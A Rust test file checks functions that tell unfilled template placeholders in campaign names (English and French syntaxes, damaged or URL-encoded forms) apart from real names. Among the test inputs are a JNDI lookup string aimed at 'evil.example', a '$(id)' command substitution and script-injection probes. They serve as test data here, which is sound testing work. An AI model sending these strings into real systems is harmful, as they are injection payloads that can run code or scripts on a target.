use super::*;
use proptest::prelude::*;

#[test]
fn placeholders() {
    for value in [
        "{{campaign}}",
        "{{campaign.name}}",
        "{{ campaign_name }}",
        "{{{campaign}}}",
        "{{7*7}}",
        "{% campaign %}",
        "[[x]]",
        "[[campaign]]",
        "%X%",
        "%CAMPAIGN%",
        "%email%",
        "%utm_source%-%utm_medium%",
        "%campaign%%date%",
        "%%emailname_%%",
        "mpaign%",
        "mpaign_name%",
        "te%",
        "group%",
        "_id%",
        "{campaign_name}",
        "{medium}",
        "{keyword:nom}",
        "{$campaign}",
        "{0}",
        "${source}",
        "#{source}",
        "*|campaign_uid|*",
        "<%= x %>",
        "##x##",
        "<<campagne>>",
        "%%=v(@campaign)=%%",
        "$campaign$",
        "#campaign#",
        "__CAMPAIGN_NAME__",
        "(not set)",
        "(not+set)",
        " (none) ",
        "Undefined",
        "undefined-undefined",
        "null",
        "NaN",
        "[object Object]",
        "[campaign]",
        "[Campaign Name]",
        "<campaign>",
        "%s",
        "%1$s",
        "%7b%7bcampaign%7d%7d",
        "%257B%257Bcampaign%257D%257D",
        "{{campaign}}-{{date}}",
        "nl-{{campaign.name}}",
        "fr-mpaign%",
        "mpaign%-te%",
        "ab-mpaign%-{{x}}",
        "\u{200b}{{x}}\n",
        "[prénom]",
        "[Prénom]",
        "[pre\u{301}nom]",
        "[ prénom ]",
        "[first_name]",
        "[First Name]",
        "[last-name]",
        "[nom du contact]",
        "[Votre prénom]",
        "[contact.nom]",
        "[nom de la campagne]",
        "[inserer le nom]",
        "<prénom>",
        "«Prénom»",
        "« nom »",
        "[[ prénom ]]",
        "{{ contact.NOM }}",
        "{{ contact.prénom | default }}",
        "{Prénom}",
        "{école}",
        "{nom de l'école}",
        "%prénom%",
        "%pr%C3%A9nom%",
        "%nom de campagne%",
        "[nom]-[date]",
        "nl-[prénom]",
        "[prénom] [nom]",
        "%5Bpr%C3%A9nom%5D",
        "mpagne_nom%",
    ] {
        assert!(is_placeholder(value), "{value}");
        assert!(!is_usable(value), "{value}");
    }
}

#[test]
fn names() {
    for value in [
        "promo-50%",
        "100%",
        "50%",
        "%",
        "%%",
        "{",
        "{}",
        "{{}}",
        "[]",
        "[lien](javascript:alert(1))",
        "c:\\windows",
        "%3cscript%3e",
        "%c3%a9t%c3%a9",
        "%c3%aate%20",
        "t%eate%20",
        "20%off%",
        "-20%-sur-tout-40%",
        "{\"a\":1}",
        "${jndi:ldap://evil.example/a}",
        "$(id)",
        "[newsletter]",
        "[email]",
        "[date limite]",
        "[nom de domaine]",
        "[campagne emploi]",
        "[ad hoc]",
        "[first]",
        "[contact]",
        "[rentrée 2026]",
        "rentrée [nom]",
        "«rentrée»",
        "« à nous »",
        "<prénoms d'hier>",
        "newsletter-[prénom]",
        "remise 10% et 20% offerts",
        "50%pur 20%",
        "<b>",
        "<script>alert(1)</script>",
        "newsletter-{{date}}",
        "newsletter-te%",
        "100 pour cent%",
        "true",
        "none",
        "nullement",
        "null-part",
        "nancy",
        "keyword not defined",
        "direct entry",
        "#promo",
        "c#",
        "rentree__2026",
        "a|b|c",
        "* puce",
        "-",
    ] {
        assert!(!is_placeholder(value), "{value}");
        assert!(is_usable(value), "{value}");
    }
}

#[test]
fn a_damaged_template_says_what_it_was() {
    for (value, whole) in [
        ("mpaign%", Some("%campaign%")),
        ("MPAIGN_NAME%", Some("%campaign_name%")),
        ("te%", Some("%date%")),
        ("fr-mpaign%", Some("fr-%campaign%")),
        ("mpaign%-te%", Some("%campaign%-%date%")),
        ("mpagne%", Some("%campagne%")),
        ("group%", Some("%adgroup%")),
        ("dress%", Some("%··dress%")),
        ("%campaign%", None),
        ("{{campaign}}", None),
        ("promo-50%", None),
        ("mpaign", None),
    ] {
        assert_eq!(before_damage(value).as_deref(), whole, "{value}");
    }
}

#[test]
fn masked_values_are_no_placeholders() {
    assert!(is_masked(MASKED) && is_masked("__Discarded_By_Policy__ "));
    assert!(!is_placeholder(MASKED));
    assert!(!is_usable(MASKED));
    assert!(!is_masked("discarded_by_policy"));
}

#[test]
fn what_cannot_be_seen_names_nothing() {
    for value in ["", " ", "\u{a0}\t", "\u{200b}\u{feff}", "\0", "\u{301}"] {
        assert!(!is_usable(value), "{value:?}");
        assert!(!is_placeholder(value), "{value:?}");
    }
}

proptest! {
    #[test]
    fn any_text_is_answered(text: String, marks in "[a-z0-9%{}\\[\\]<>|*#$_ +-]{0,40}") {
        prop_assert!(!(is_placeholder(&text) && is_usable(&text)));
        prop_assert!(!(is_placeholder(&marks) && is_usable(&marks)));
    }
}
